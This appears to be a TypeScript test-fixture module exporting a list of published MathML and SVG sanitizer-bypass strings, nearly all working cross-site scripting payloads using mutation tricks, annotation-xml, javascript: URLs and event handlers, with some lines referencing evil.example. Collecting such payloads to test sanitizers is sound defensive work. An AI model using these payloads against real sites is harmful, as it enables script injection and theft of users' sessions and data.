const raw = String.raw

/** Published bypasses of sanitizers by MathML and its neighbors, one per line; `alert(1)` represents any script. */
const lines = raw`
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form></mtext></math>
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='alert(1)'>"></style></h1>
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='alert(1)'>">
<math><mi><table><mglyph><nobr><style><a title="</style><img src onerror=alert(1)>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><svg><style><img src=x onerror=alert(1)></style></svg></annotation-xml></math>
<math><annotation-xml><foreignobject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignobject></annotation-xml></math>
<math><annotation encoding="text/html"><script>alert(1)</script></annotation></math>
<math><semantics><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></semantics></math>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math><mtext><script>alert(1)</script></mtext></math>
<math><mtext><iframe src=javascript:alert(1)></iframe></mtext></math>
<math><mtext><svg><script>alert(1)</script></svg></mtext></math>
<math><mi><p><mglyph><style></math><img src=x onerror=alert(1)></style></mi></math>
<math><ms><malignmark><style><!--</style><img src=x onerror=alert(1)>--></ms></math>
<math><mo><malignmark></p><style><!--</style><img title="--><img src=x onerror=alert(1)>"></mo></math>
<math><style><!--</style><img title="--&gt;&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;">
<math><style><img src=x onerror=alert(1)></style></math>
<math><style></math><img src=x onerror=alert(1)></style>
<math></p><style><!--</style><img src=x onerror=alert(1)>--></style></math>
<math></br><style><img src=x onerror=alert(1)></style></math>
<math><title><a id="</title><img src=x onerror=alert(1)>"></title></math>
<math><textarea><img title="</textarea><img src=x onerror=alert(1)>"></math>
<math><noscript><p title="</noscript><img src=x onerror=alert(1)>"></math>
<math><xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp></math>
<math><noembed><p title="</noembed><img src=x onerror=alert(1)>"></math>
<math><plaintext><img src=x onerror=alert(1)></math>
<math><![CDATA[<img src=x onerror=alert(1)>]]></math>
<math><mtext><![CDATA[</mtext></math><img src=x onerror=alert(1)>]]></mtext></math>
<math><!--<img src="--><img src=x onerror=alert(1)>"></math>
<math><mtext><!--</mtext></math><img src=x onerror=alert(1)>--></mtext></math>
<math><?xml version="1.0"?><mi>x</mi><?php alert(1) ?></math>
<math href="javascript:alert(1)">x</math>
<math><mrow href="javascript:alert(1)"><mi>x</mi></mrow></math>
<math xlink:href="javascript:alert(1)" xmlns:xlink="http://www.w3.org/1999/xlink">x</math>
<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<math><maction actiontype="toggle"><mi>a</mi><mtext><script>alert(1)</script></mtext></maction></math>
<math><mi onclick=alert(1) onmouseover="alert(1)">x</mi></math>
<math><mi style="position:fixed;inset:0">x</mi></math>
<math><mi id="body" name="cookie">x</mi></math>
<math><mi src="//evil.example/x.svg" background="//evil.example">x</mi></math>
<math><mglyph src="javascript:alert(1)" alt="x"></mglyph></math>
<math definitionURL="javascript:alert(1)"><mi>x</mi></math>
<math><mi xml:base="javascript:alert(1)" xml:space="preserve">x</mi></math>
<math><mspace width="9999em" height="9999em"></mspace></math>
<math><mpadded lspace="-9999em" voffset="-9999em"><mi>x</mi></mpadded></math>
<math><mspace width="1e9em" depth="calc(100vh)"></mspace></math>
<math><mi mathsize="1000em" mathcolor="url(//evil.example)" mathbackground="red;position:fixed">x</mi></math>
<math><mi><math><mi><math><mi>x</mi></math></mi></math></mi></math>
<math><svg><desc><img src=x onerror=alert(1)></desc></svg></math>
<svg><math><mtext><style><img src=x onerror=alert(1)></style></mtext></math></svg>
<svg><foreignObject><math><mi><style></svg><img src=x onerror=alert(1)></style></mi></math></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mi></math><script>alert(1)</script>
</math><script>alert(1)</script><math>
</p></div></article><math><mi>x</mi></math>
<mi>x</mi><mtext><img src=x onerror=alert(1)></mtext>
<table><math><mtext><tr><td><style></table><img src=x onerror=alert(1)></style></td></tr></mtext></math></table>
<math><table><tr><td><mi>x</mi></td></tr></table></math>
<math><mtable><mtr><mtd><p>x</p></mtd></mtr></mtable></math>
<math><mi><b><i></b></i><mglyph></mi></math>
<math><mi><font color=red><style></mi></math><img src=x onerror=alert(1)></style></font>
<math><mi><a><mglyph><a><style><!--</style><img src=x onerror=alert(1)></a></mi></math>
<math><semantics><annotation encoding="application/x-tex">&lt;/annotation&gt;<img src=x onerror=alert(1)></annotation></semantics></math>
<math><mi>&lt;img src=x onerror=alert(1)&gt;</mi><mtext>&lt;/math&gt;&lt;script&gt;alert(1)&lt;/script&gt;</mtext></math>
<MATH><MTEXT><SCRIPT>alert(1)</SCRIPT></MTEXT></MATH>
<math/><mi/><script/>alert(1)</script>
<math><mi title="</mi></math><img src=x onerror=alert(1)>">x</mi></math>
<math><mi class="</math><script>alert(1)</script> fixed inset-0">x</mi></math>
<math:math xmlns:math="http://www.w3.org/1998/Math/MathML"><math:mtext><script>alert(1)</script></math:mtext></math:math>
<m:math><m:mi onclick=alert(1)>x</m:mi></m:math>
<selectedcontent><math><mtext><select><style><img src=x onerror=alert(1)></style></select></mtext></math></selectedcontent>
<math><select><mi><option><style></select><img src=x onerror=alert(1)></style></option></mi></select></math>
<template><math><mtext><style></template><img src=x onerror=alert(1)></style></mtext></math></template>
<div><math><mtext><div></math></div></mtext><img src=x onerror=alert(1)></div>
`

export const mathPayloads: readonly string[] = lines.trim().split('\n')
